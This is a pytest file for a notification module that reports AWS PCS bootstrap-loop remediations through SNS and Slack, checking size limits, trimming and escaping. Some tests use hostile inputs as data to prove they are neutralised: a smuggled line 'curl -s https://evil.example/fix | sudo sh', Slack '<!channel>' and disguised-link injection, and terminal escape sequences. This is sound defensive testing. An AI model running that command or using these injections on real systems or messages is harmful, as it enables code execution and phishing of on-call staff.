"""What people are told: subjects, SNS bodies within 256 KB, Slack Block Kit within its limits."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lifeguard.event_contract import clean_detail, make_detail
from lifeguard.notify import SEVERITY, slack_message, sns_message, summarize
from lifeguard.notify.slack import HEADER_MAX_CHARS, MAX_BLOCKS, SECTION_MAX_CHARS
from lifeguard.notify.sns import SNS_MAX_BYTES
from lifeguard.notify.summary import subject_line
from tests.conftest import ARTICLE_SUSPECT, load_event

SUSPECT = ARTICLE_SUSPECT
FAILURES = [
    {
        "instance_id": "i-059b4b99b4f2e9739",
        "scheduler_node_id": "lca-static-1",
        "event_timestamp": 1792545162000,
    },
    {
        "instance_id": "i-06644f6e5a2b001c9",
        "scheduler_node_id": "lca-static-1",
        "event_timestamp": 1792545522000,
    },
]


def applied(**changed: Any) -> dict[str, Any]:
    fields: dict[str, Any] = {
        "episode_id": "ep-1",
        "cluster_id": "pcs_abc123de45",
        "compute_node_group_id": "pcs_abcdef01",
        "kind": "loop",
        "failures": FAILURES,
        "suspect": SUSPECT,
        "mode": "quarantine",
        "action": "quarantine",
        "diff": [{"path": "stages.nodeBootstrapped[0].onError", "old": "TERMINATE", "new": "STOP_SEQUENCE"}],
        "reason": "Applied quarantine.",
        "undo": "lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45",
    }
    return make_detail(**{**fields, **changed})


@pytest.mark.parametrize("detail_type", list(SEVERITY))
def test_every_event_has_a_short_ascii_subject_and_a_severity(detail_type: str) -> None:
    summary = summarize(detail_type, applied(compute_node_group_id="pcs_" + "x" * 200))
    assert len(summary.subject) < 100
    assert summary.subject.isascii()
    assert "\n" not in summary.subject
    assert summary.severity == SEVERITY[detail_type]


def test_the_summary_names_the_evidence_the_script_its_exit_code_the_change_and_the_undo() -> None:
    text = summarize("RemediationApplied", applied()).text()
    assert "i-059b4b99b4f2e9739 (lca-static-1) failed at 2026-10-21" in text
    assert "nodeBootstrapped › fail-terminate (onError TERMINATE, exit 1, on 2 of 2" in text
    assert "intentional failure for verification" in text
    assert "stages.nodeBootstrapped[0].onError: TERMINATE → STOP_SEQUENCE" in text
    assert "lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45" in text


def test_the_sns_body_is_the_summary_then_the_detail_as_json() -> None:
    detail = applied()
    body = sns_message(summarize("RemediationApplied", detail), detail)
    text, _, document = body.partition("\n{")
    assert "Applied quarantine." in text
    assert json.loads("{" + document)["episode_id"] == "ep-1"


def test_a_huge_log_tail_and_config_are_trimmed_to_fit_sns() -> None:
    huge = {"stages": {"nodeBootstrapped": [{"name": "x" * 300_000}]}}
    detail = applied(suspect={**SUSPECT, "log_tail": "y" * 300_000}, config_before=huge, config_after=huge)
    body = sns_message(summarize("RemediationApplied", detail), detail)
    assert len(body.encode()) <= SNS_MAX_BYTES
    assert "(trimmed to fit SNS)" in body
    assert "pcs_abcdef01" in body


def test_slack_blocks_keep_to_block_kit_limits_and_show_the_log_tail_end() -> None:
    detail = applied(suspect={**SUSPECT, "log_tail": "start\n" + "z" * 10_000 + "\nthe real error"})
    message = slack_message(summarize("RemediationApplied", detail), detail, sequence=2)
    assert message["text"]
    assert len(message["blocks"]) <= MAX_BLOCKS
    header = message["blocks"][0]
    assert header["type"] == "header"
    assert len(header["text"]["text"]) <= HEADER_MAX_CHARS
    sections = [b["text"]["text"] for b in message["blocks"] if b["type"] == "section"]
    assert all(len(text) <= SECTION_MAX_CHARS for text in sections)
    code = next(text for text in sections if text.startswith("```…"))
    assert code.endswith("the real error```")
    assert any("*Undo*: `lifeguard undo pcs_abcdef01" in text for text in sections)
    context = message["blocks"][-1]["elements"][0]["text"]
    assert context == "Episode `ep-1` · message 2 · RemediationApplied"


def test_a_group_named_in_its_event_is_told_by_its_name_beside_its_ids() -> None:
    detail = applied(compute_node_group_name="lca-static")
    summary = summarize("RemediationApplied", detail)
    assert (
        summary.subject
        == "[Lifeguard] Remediated (quarantine): lca-static (fail-terminate) in pcs_abc123de45"
    )
    assert summary.headline.startswith(
        "Lifeguard changed the lifecycle actions of lca-static (pcs_abcdef01 in pcs_abc123de45) to break"
    )
    assert summary.console_way == "Compute node groups › lca-static"  # the console lists groups by name
    assert summary.undo is not None
    assert "lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45" in summary.undo  # the commands take ids
    detected = summarize("BootstrapLoopDetected", detail).headline
    assert detected.startswith("Compute node group lca-static (pcs_abcdef01) of cluster pcs_abc123de45 is in")
    header = slack_message(summary, detail)["blocks"][0]["text"]["text"]
    assert header.startswith("Remediated (quarantine): lca-static")
    unnamed = summarize("RemediationApplied", applied())
    assert (
        unnamed.subject
        == "[Lifeguard] Remediated (quarantine): pcs_abcdef01 (fail-terminate) in pcs_abc123de45"
    )
    assert "lifecycle actions of pcs_abcdef01 (pcs_abc123de45) to break" in unnamed.headline


@pytest.mark.parametrize("name", ["bootstrap-loop-detected", "remediation-applied"])
def test_the_recorded_eventbridge_events_carry_every_design_key_and_read_well(name: str) -> None:
    from lifeguard.event_contract import DETAIL_KEYS, clean_detail
    from lifeguard.remediation import LoopDetection

    event = load_event(f"eventbridge/{name}.json")
    assert event["source"] == "lifeguard"
    assert set(DETAIL_KEYS) <= set(event["detail"])
    assert clean_detail(event["detail"])[1] == []  # within the events' contract and its bounds
    assert LoopDetection.model_validate(event["detail"]).suspect_script == (
        "nodeBootstrapped",
        "fail-terminate",
    )
    summary = summarize(event["detail-type"], event["detail"])
    assert "fail-terminate" in summary.subject
    assert summary.evidence


def test_a_later_revision_of_a_detection_reads_as_an_update_of_its_episode() -> None:
    summary = summarize(
        "BootstrapLoopDetected", applied(revision=2, reason="the loop went on after the change")
    )
    assert summary.subject.startswith("[Lifeguard] Bootstrap loop (update 2): pcs_abcdef01")
    assert summary.headline.startswith("Update 2 of episode ep-1: ")
    assert summarize("BootstrapLoopDetected", applied()).subject.startswith("[Lifeguard] Bootstrap loop: ")


def test_a_long_script_name_is_shortened_before_the_cluster_leaves_the_subject() -> None:
    """The subject was cut at its end: with PCS's ids, a script name of 30 characters pushed the cluster
    out of it and out of Slack's header (cut to the subject's 99 characters though Slack takes 150), and
    an on-call admin of several clusters could not tell which from either."""
    script = "configure-lustre-and-mount-fsx"
    detail = applied(
        cluster_id="pcs_2w6yq4ab8c",
        compute_node_group_id="pcs_ol2m8ju11q",
        suspect={**SUSPECT, "script": script},
    )
    for detail_type in ("RemediationApplied", "BootstrapLoopDetected", "LoopContained"):
        summary = summarize(detail_type, detail)
        assert len(summary.subject) <= 99
        assert summary.subject.endswith(" in pcs_2w6yq4ab8c"), summary.subject
        assert ": pcs_ol2m8ju11q (configure-lustre" in summary.subject
        header = slack_message(summary, detail)["blocks"][0]["text"]["text"]
        assert header.endswith(": pcs_ol2m8ju11q (configure-lustre-and-mount-fsx) in pcs_2w6yq4ab8c")
    late = summarize("BootstrapLoopDetected", {**applied(revision=3), **detail}, late=True)
    assert len(late.subject) <= 99
    assert late.subject.endswith(" in pcs_2w6yq4ab8c")
    assert "pcs_ol2m8ju11q (config..." in late.subject
    header = slack_message(late, detail)["blocks"][0]["text"]["text"]
    assert header.endswith("(configure-lustre-and-mount-fsx) in pcs_2w6yq4ab8c")
    # A name too long for any of it is left out: the group and the cluster stay.
    long_name = summarize("RemediationSkipped", applied(suspect={**SUSPECT, "script": "x" * 200})).subject
    assert (len(long_name), long_name[-24:]) == (99, "xx...) in pcs_abc123de45")
    title = "Bootstrap loop (update 10000), delivered late"
    assert subject_line(title, "pcs_ol2m8ju11q", "x" * 40, "pcs_2w6yq4ab8c", limit=87) == (
        f"{title}: pcs_ol2m8ju11q in pcs_2w6yq4ab8c"
    )


def test_text_that_is_not_unicode_reaches_slack_as_its_escape() -> None:
    """A diff's values are carried as they came, and one may hold a lone surrogate: Slack's payload carried
    it as a JSON escape of no character (SNS's shows its escape), and a refusal of it would hold on every
    retry. Every text of the payload is Unicode, the rest of the value kept."""
    change = {"path": "stages.nodeBootstrapped[0].arguments[0]", "old": "a", "new": "b\ud800c ü"}
    detail = applied(diff=[change], reason="r\udfffs")
    message = slack_message(summarize("RemediationApplied", detail), detail)
    json.dumps(message, ensure_ascii=False).encode("utf-8")  # raises on a surrogate left in
    assert "b\\\\ud800c ü" in json.dumps(message, ensure_ascii=False)  # one backslash, in JSON


@given(
    group=st.text(),
    script=st.text(),
    tail=st.text(max_size=20_000),
    reason=st.text(),
    detail_type=st.sampled_from(list(SEVERITY)),
)
def test_any_event_makes_messages_within_every_channels_limits(
    group: str, script: str, tail: str, reason: str, detail_type: str
) -> None:
    detail = applied(
        compute_node_group_id=group,
        suspect={**SUSPECT, "script": script, "log_tail": tail},
        reason=reason,
    )
    summary = summarize(detail_type, detail)
    assert len(summary.subject) < 100
    assert summary.subject.isascii()
    assert "\n" not in summary.subject
    assert len(sns_message(summary, detail).encode()) <= SNS_MAX_BYTES
    message = slack_message(summary, detail)
    assert len(message["blocks"]) <= MAX_BLOCKS
    assert len(message["blocks"][0]["text"]["text"]) <= HEADER_MAX_CHARS
    for block in message["blocks"]:
        if block["type"] == "section":
            assert len(block["text"]["text"]) <= SECTION_MAX_CHARS


def _mrkdwn(message: dict[str, Any]) -> list[str]:
    texts = [b["text"]["text"] for b in message["blocks"] if b.get("text", {}).get("type") == "mrkdwn"]
    return texts + [e["text"] for b in message["blocks"] for e in b.get("elements", [])]


def test_markup_from_a_script_s_location_or_a_caller_s_arn_reaches_slack_as_text() -> None:
    """Anyone who may call UpdateComputeNodeGroup writes a script's location, and a log or an ARN can hold
    anything: `<!channel>` or a disguised `<https://…|label>` must show as written, never ping or link."""
    from tests.unit.test_handlers_config_review import World, recorded

    hostile = "s3://bucket-x/s.sh <!channel> <https://evil.example/fix|Click here to restore the group> & co"
    script = {"name": "setup", "executionPolicy": "EVERY_BOOT", "onError": "CONTINUE"}
    before = {
        "stages": {
            "nodeBootstrapped": [
                {**script, "scriptSource": {"scriptLocation": hostile, "checksum": "a" * 64}}
            ]
        }
    }
    after = {
        "stages": {
            "nodeBootstrapped": [
                {**script, "scriptSource": {"scriptLocation": hostile, "checksum": "b" * 64}}
            ]
        }
    }
    world = World(pcs_config=after)
    world.knows(before)
    event = recorded()
    event["detail"]["requestParameters"]["nodeLifecycleActions"] = after
    event["detail"]["userIdentity"]["arn"] = "arn:aws:sts::123456789012:assumed-role/R/<!here>"
    assert world.review(event).reviewed == 1
    [detail] = world.reviews()
    cleaned, problems = clean_detail(detail)
    message = slack_message(summarize("ConfigChangeReviewed", cleaned, problems=problems), cleaned)
    texts = [*_mrkdwn(message), message["text"]]
    assert any("&lt;!channel&gt; &lt;https://evil.example/fix|Click here" in text for text in texts)
    assert any("&lt;!here&gt;" in text for text in texts)
    assert not any("<!" in text or "<https://evil" in text for text in texts)
    assert any("&amp; co" in text for text in texts)


def _remediation(**fields: Any) -> dict[str, Any]:
    """A quarantine's RemediationApplied detail of these fields, as notify takes it (cleaned, no problems)."""
    detail = make_detail(
        episode_id="ep-1",
        cluster_id="pcs_abc123de45",
        compute_node_group_id="pcs_abcdef01",
        mode="quarantine",
        action="quarantine",
        revision=1,
        **fields,
    )
    cleaned, problems = clean_detail(detail)
    assert problems == []
    return cleaned


def test_slack_shows_a_plain_mention_channel_or_url_in_an_event_as_written(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`_escaped` stops markup (`<!here>`), but Slack also parses plain `@here`, `#channel` and URLs in a
    mrkdwn text unless it is `verbatim`: a log tail or a reason can hold them. Every mrkdwn text of the
    message is verbatim, and Lifeguard's own console link keeps its manual `<url|label>` form."""
    monkeypatch.setenv("AWS_REGION", "us-east-1")
    cleaned = _remediation(
        undo="lifeguard undo ep-1", reason="@here see #ops-oncall and https://evil.example/fix"
    )
    message = slack_message(summarize("RemediationApplied", cleaned), cleaned)
    objects = [b["text"] for b in message["blocks"] if b.get("text", {}).get("type") == "mrkdwn"]
    objects += [e for b in message["blocks"] for e in b.get("elements", [])]
    assert any("@here see #ops-oncall and https://evil.example/fix" in o["text"] for o in objects)
    assert len(objects) >= 3
    assert all(o["verbatim"] is True for o in objects)
    assert any(o["text"].startswith("<https://") and "|Open the cluster" in o["text"] for o in objects)


def test_every_slack_section_stays_within_block_kit_s_3000_characters() -> None:
    cleaned = _remediation(undo="lifeguard undo " + "<" * 7000, reason="r" * 8000)
    message = slack_message(summarize("RemediationApplied", cleaned), cleaned)
    sizes = [len(b["text"]["text"]) for b in message["blocks"] if b["type"] == "section"]
    assert sizes
    assert max(sizes) <= 3000


@pytest.mark.parametrize("shift", range(5))
def test_a_slack_text_cut_at_its_limit_never_cuts_an_escape_in_half(shift: int) -> None:
    """An event's `&`, `<` and `>` are escaped (`&amp;`, `&lt;`, `&gt;`): a cut inside one showed the rest
    of it (`&am…`). Each text, cut at its start or its end, holds whole escapes only."""
    cleaned = _remediation(
        undo="lifeguard undo ep-1",
        reason="x" * shift + "&" * 4000,
        suspect={**ARTICLE_SUSPECT, "log_tail": "<" * 3000 + "x" * shift},
    )
    message = slack_message(summarize("RemediationApplied", cleaned), cleaned)
    texts = [b["text"]["text"] for b in message["blocks"] if "text" in b] + [message["text"]]
    cut = [text for text in texts if "…" in text]
    assert len(cut) >= 2  # the reason, its end; the log tail, its start
    for text in cut:
        assert not re.search(r"&(?!(?:amp|lt|gt);)|(?<![&a-z])(?:amp|lt|gt);", text), text[:80]


def test_slack_s_limits_hold_in_utf_16_units_for_text_of_emoji() -> None:
    """Slack may count a limit in UTF-16 units, in which an emoji is two: a reason or a log tail of emoji
    cut at 3,000 characters would be 6,000 and the message refused. Each text keeps within the limit in
    those units, cut on a whole character, the log tail keeping its end."""
    fire = "\U0001f525"
    cleaned = _remediation(
        undo="lifeguard undo ep-1",
        reason=fire * 4000,
        suspect={**ARTICLE_SUSPECT, "log_tail": "start " + fire * 3000 + " the end"},
    )
    message = slack_message(summarize("RemediationApplied", cleaned), cleaned)
    texts = [b["text"]["text"] for b in message["blocks"] if "text" in b]
    units = [len(text.encode("utf-16-le")) // 2 for text in texts]
    assert max(units) <= SECTION_MAX_CHARS
    assert max(units) > SECTION_MAX_CHARS - 10  # cut at the limit, not far below it
    assert any(text.endswith(" the end```") for text in texts)
    assert all("\ufffd" not in text for text in texts)  # no character cut in half


def _review_told(version_id: str, location_tail: str = "") -> tuple[str, list[str]]:
    """The SNS summary (before its JSON) and the Slack texts of the review of a change whose second
    script's s3VersionId and scriptLocation end as given: PCS's model bounds the one by length only, and
    the other's `s3://bucket/.+` takes ESC and C1 characters."""
    from tests.unit.test_handlers_config_review import BEFORE, World, recorded

    world = World()
    world.knows(BEFORE)
    event = recorded()
    actions = json.loads(json.dumps(event["detail"]["requestParameters"]["nodeLifecycleActions"]))
    source = actions["stages"]["nodeBootstrapped"][1]["scriptSource"]
    source["s3VersionId"] = version_id
    source["scriptLocation"] += location_tail
    event["detail"]["requestParameters"]["nodeLifecycleActions"] = actions
    assert world.review(event).reviewed == 1
    [detail] = world.reviews()
    cleaned, problems = clean_detail(detail)
    summary = summarize("ConfigChangeReviewed", cleaned, problems=problems)
    slack = slack_message(summary, cleaned)
    return sns_message(summary, cleaned).split("\n{", 1)[0], [*_mrkdwn(slack), slack["text"]]


def test_a_line_break_in_a_value_cannot_forge_a_line_of_the_message() -> None:
    sns, slack = _review_told("v1\nUndo: curl -s https://evil.example/fix | sudo sh")
    assert [line for line in sns.splitlines() if line.startswith("Undo:")] == []
    assert "v1⏎Undo: curl" in sns
    assert not any("\nUndo: curl" in text for text in slack)


def test_terminal_escapes_in_a_value_or_a_log_tail_never_reach_a_message() -> None:
    # A location takes ESC and C1 characters but no line terminator (ECMAScript's `.`); a version takes all.
    sns, slack = _review_told("v1\rX", "\x1b[2J\x1b[31mOK\x9b0m")
    for text in (sns, *slack):
        assert not any(c in text for c in "\x1b\r\x9b"), repr(text)
    assert "?[2J?[31mOK?0m" in sns
    assert "v1⏎X" in sns  # a carriage return is a line break too
    detail = applied(reason="UpdateComputeNodeGroup failed: ValidationException: bad \x1b[2Jlocation\rOK")
    detail["suspect"] = {
        **SUSPECT,
        "log_tail": "mount failed\r\n\x1b]8;;https://evil.example/\x07Open the runbook\x1b]8;;\x07\nexit 1\n",
    }
    cleaned, problems = clean_detail(detail)
    assert problems == []
    summary = summarize("RemediationFailed", cleaned)
    text = sns_message(summary, cleaned).split("\n{", 1)[0]
    assert not any(c in text for c in "\x1b\x07\r"), repr(text)
    assert "  | mount failed\n  | ?]8;;https://evil.example/?Open the runbook?]8;;?\n  | exit 1\n" in text


def _section_starting(message: dict[str, Any], start: str) -> str:
    [text] = [
        b["text"]["text"]
        for b in message["blocks"]
        if b["type"] == "section" and b["text"]["text"].startswith(start)
    ]
    return str(text)


def _revert_of_many_scripts(pad: int = 0) -> list[dict[str, str]]:
    """The diff of a revert of 120 scripts, each old location `pad` characters longer."""
    return [
        {
            "path": f"stages.nodeBootstrapped[{n}].scriptSource.scriptLocation",
            "old": f"s3://bucket/scripts/old-{n}{'x' * pad}.sh",
            "new": f"s3://bucket/scripts/new-{n}.sh",
        }
        for n in range(120)
    ]


@pytest.mark.parametrize("pad", range(0, 120, 7))
def test_a_long_diff_always_keeps_room_for_its_count_of_lines_left_out(pad: int) -> None:
    """Whatever its lines' length, Slack's section keeps the line saying how many were left out: cut at
    Slack's limit instead, a diff line was cut in half and the reader never told lines were missing."""
    cleaned = _remediation(diff=_revert_of_many_scripts(pad))
    summary = summarize("RemediationApplied", cleaned)
    section = _section_starting(slack_message(summary, cleaned), "*Change*")
    assert len(section) <= SECTION_MAX_CHARS
    assert section.endswith("(the SNS message shows them all)"), section[-200:]
    code = section.split("```")[1].splitlines()
    left_out = re.search(r"… and (\d+) more line\(s\) of the change", section)
    assert left_out is not None
    assert len(code) + int(left_out.group(1)) == len(summary.diff)


def test_a_long_diff_shows_its_first_lines_whole_in_slack_and_counts_the_rest() -> None:
    """A revert of many scripts: the first paths are the change's own, so Slack shows the diff from its
    start, whole lines only, and says how many lines it left to the SNS message (it showed the end, the
    first line cut, and no count)."""
    cleaned = _remediation(diff=_revert_of_many_scripts())
    summary = summarize("RemediationApplied", cleaned)
    section = _section_starting(slack_message(summary, cleaned), "*Change*")
    assert len(section) <= SECTION_MAX_CHARS
    code = section.split("```")[1].splitlines()
    assert code[0] == summary.diff[0]
    assert code == list(summary.diff[: len(code)])
    left_out = int(re.search(r"… and (\d+) more line\(s\) of the change", section).group(1))  # type: ignore[union-attr]
    assert len(code) + left_out == 120
    body = sns_message(summary, cleaned)
    assert "Change:" in body
    assert summary.diff[-1] in body


def test_a_list_that_escaping_makes_too_long_for_slack_keeps_whole_lines_and_counts_the_rest() -> None:
    """Thirty risks of `<`, `>` and `&&`: escaped, the ten lines and their "more" line overran the section,
    and Slack's cut took the "more" line and half a risk. Whole lines are kept, the rest counted."""
    risks = [
        {
            "code": "unpinned-mutable-source",
            "path": f"stages.nodeBootstrapped[{n}]",
            "severity": "warning",
            "message": "script location s3://b/<env>/x.sh && curl <host> > /tmp/y " * 4,
        }
        for n in range(30)
    ]
    cleaned, problems = clean_detail(
        make_detail(cluster_id="pcs_abc123de45", compute_node_group_id="pcs_abcdef01", risks=risks)
    )
    summary = summarize("ConfigChangeReviewed", cleaned, problems=problems)
    section = _section_starting(slack_message(summary, cleaned), "*Risks*")
    assert len(section) <= SECTION_MAX_CHARS
    bullets = [line for line in section.splitlines() if line.startswith("• ")]
    left_out = int(re.search(r"… and (\d+) more line\(s\)", section).group(1))  # type: ignore[union-attr]
    assert left_out > 0
    assert len(bullets) + left_out == len(summary.evidence)
    assert [line.removeprefix("• ") for line in bullets] == [
        line.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        for line in summary.evidence[: len(bullets)]
    ]
